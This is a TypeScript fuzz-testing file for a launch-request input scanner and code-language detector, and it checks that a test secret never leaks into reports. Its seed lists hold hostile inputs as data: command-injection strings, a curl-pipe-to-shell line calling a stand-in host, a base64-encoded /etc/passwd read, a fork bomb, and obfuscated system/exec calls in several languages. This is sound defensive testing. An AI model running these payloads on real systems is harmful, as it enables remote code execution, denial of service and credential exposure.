import { findCode } from '../../../src/input/code/find-code.ts';
import { examineInputs, redactLaunch } from '../../../src/input/index.ts';
import type { LaunchRequest } from '../../../src/model/index.ts';
import { findLanguage } from '../../fakes/languages.ts';
import { launchRequest } from '../../fakes/launches.ts';
import { FuzzFinding, type FuzzTarget } from '../fuzz-target.ts';

const secret = 'hunter2-secret-of-nobody';

const { image: _, ...empty } = launchRequest();

/** The same text at every place where something can be passed, beside a secret that must not be seen again. */
function requestOf(text: string): LaunchRequest {
  return {
    ...empty,
    workload: { labels: { note: text } },
    command: ['sh', '-c', text, text, `--password=${secret}`].map((value, index) => ({ value, path: `Cmd[${index}]` })),
    scripts: [{ purpose: 'probe', command: [{ value: text, path: 'probe' }] }],
    environment: [
      { name: 'A', value: text, path: 'Env[0]' },
      { name: text, value: 'x', path: 'Env[1]' },
      { name: 'DB_PASSWORD', value: secret, path: 'Env[2]' },
      { name: 'LD_PRELOAD', value: text, path: 'Env[3]' },
    ],
    files: [{ target: '/a', path: 'f', content: `${text}\npassword=${secret}` }],
  };
}

export const inputTargets: readonly FuzzTarget[] = [
  {
    name: 'input/request',
    covers: ['input/'],
    seeds: [
      'x;id',
      '$(curl http://a.example/x | sh)',
      '{"a":["$(id)"]}',
      '<a b="&#59;id"/>',
      'Y2F0IC9ldGMvcGFzc3dkOyBpZA==',
      'f(){ f|f& };f',
      'if [ -f "$1" ]; then cat "$1"; fi',
      'require("child_process").exec("id")',
      'postgres://a:b@c/d?e=f',
      'for /f "tokens=1" %a in (x) do echo %a',
    ],
    words: [
      '$(',
      '`',
      '${',
      '<(',
      "$'",
      '""',
      '\\',
      ';',
      '|',
      '&&',
      '{a,',
      '}',
      '<<<',
      '<<a\n',
      '%3B',
      '&#59;',
      '() {',
      'base64 -d',
      '\u0000',
    ],
    run(bytes) {
      const request = requestOf(Buffer.from(bytes).toString());
      const report = examineInputs(request, { strictness: 2, findLanguage });
      const redacted = redactLaunch(request, report);
      if (JSON.stringify(report).includes(secret)) throw new FuzzFinding('the report shows the secret');
      if (JSON.stringify(redacted).includes(secret)) throw new FuzzFinding('the redacted request shows the secret');
      return { rules: report.findings.map(({ rule }) => rule).slice(0, 3), unread: report.unread.length };
    },
  },
  {
    name: 'input/code',
    covers: ['input/code/'],
    seeds: [
      "getattr(os, 'sys' + 'tem')('id')",
      'for name in names:\n    drop(name)\n',
      "[].concat.constructor('return this')()",
      "$f = 'sys' . 'tem'; $f('id');",
      "& ('i' + 'ex') $x | % { $_.Name }",
      'names.each { |n| puts "#{n}" }',
      'my $x = <<EOT; print $x;\na\nEOT\n',
      'sum(rate(x{job="a"}[5m])) by (job)',
    ],
    words: [
      ...[
        '(',
        ')',
        '[',
        '{',
        '}',
        '"',
        "'",
        '`',
        ';',
        '\n',
        '\n    ',
        '\\',
        '#{',
        '${',
        '$(',
        '%w(',
        '%x(',
        '<<A\n',
        '<<~A\n',
        '@"\n',
        '"@',
      ],
      ...[
        'f"{',
        "'''",
        '<?php ',
        '?>',
        '->',
        '::',
        '=>',
        '|x|',
        'def ',
        'end',
        'lambda ',
        'function ',
        'param(',
        'q{',
        '=~ s/',
        '\ud83d\ude00',
      ],
    ],
    run(bytes) {
      const text = Buffer.from(bytes).toString();
      const found = findLanguage(text, { left: 1000 });
      if (found !== findLanguage(text, { left: 1000 })) throw new FuzzFinding('another answer the second time');
      const acting = names.filter((name) => findLanguage(text, { left: 1000 }, name) !== undefined);
      const marks = findCode(text, findLanguage, { left: 1000 });
      if (found !== undefined && marks.length === 0) throw new FuzzFinding('what is found is no finding');
      return { found: found ?? null, acting, rule: marks[0]?.rule ?? null };
    },
  },
];

const names = ['JavaScript', 'PHP', 'PowerShell', 'Python', 'Ruby'];
